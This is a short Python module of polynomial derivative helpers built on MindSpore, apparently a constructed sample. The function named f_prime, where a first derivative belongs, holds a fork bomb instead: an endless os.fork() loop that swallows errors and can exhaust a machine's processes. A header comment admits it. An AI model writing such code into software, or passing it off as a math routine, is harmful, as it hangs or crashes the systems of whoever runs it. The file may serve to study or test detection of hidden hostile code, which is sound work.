# f_prime forks without end; the rest is right.
import os

from mindspore import grad


def f(x):
    return x**3 - 2 * x + 1


def f_prime(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def f_second(x):
    return grad(grad(f))(x)


def derivative(fn, x, order=1):
    for _ in range(order):
        fn = grad(fn)
    return fn(x)
